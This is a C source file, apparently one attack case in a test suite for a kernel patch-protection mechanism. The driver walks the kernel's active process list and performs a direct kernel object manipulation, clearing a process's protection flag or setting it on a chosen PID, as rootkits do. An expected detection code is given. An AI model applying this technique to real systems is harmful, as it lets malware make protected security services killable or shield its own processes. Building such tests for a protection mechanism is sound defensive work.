/* attack_a26 (A26): tamper with process protection by a direct write
 * (DKOM), as a rootkit does to make a protected service killable or to
 * protect its own process. The driver starts from the current thread (the
 * per-CPU block at GS), takes its process, and walks the circular active
 * process list (skipping links outside pool memory: the list head and the
 * statically allocated system process) to the first protected process,
 * whose protection it clears; with argument "set PID" it instead sets the
 * protection of the process with that PID. Expected: 0x109, type 0x1F
 * (protected process). On a kernel without processes it refuses to load. */
#include "attack_proc.h"

#if __has_include(<kpp/process.h>)
#include <kpp/process.h>

status_t driver_entry(struct driver_object *drv)
{
	struct thread *t = gs_current_thread();
	if (!a_ptr_ok((uint64_t)t, sizeof *t) || !a_ptr_ok((uint64_t)t->process, sizeof *t->process)) {
		printk("attack_a26: no current process\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	bool set = !strncmp(drv->args, "set ", 4);
	uint64_t pid = 0;
	if (set && !parse_u64(drv->args + 4, &pid))
		return KPP_STATUS_INVALID_PARAMETER;
	struct list_link *start = &t->process->link, *l = start;
	struct process *victim = NULL;
	int n = 0;
	do {
		if (is_process(l)) {
			struct process *p = PROCESS_OF(l);
			if (set ? p->pid == pid : (p->protection & PROC_PROTECTED) != 0)
				victim = p;
		}
		l = l->next;
	} while (l != start && !victim && ++n < 4096);
	if (!victim) {
		printk(set ? "attack_a26: no process %lu\n" : "attack_a26: no protected process\n", pid);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	if (set)
		victim->protection |= PROC_PROTECTED;
	else
		victim->protection &= ~(uint32_t)PROC_PROTECTED;
	printk("attack_a26: process %u (%s) protection %s\n", victim->pid, victim->name, set ? "set" : "cleared");
	a_patched("attack_a26");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}

#else

status_t driver_entry(struct driver_object *drv)
{
	printk("attack_a26: this kernel has no processes\n");
	return KPP_STATUS_NOT_SUPPORTED;
}

#endif
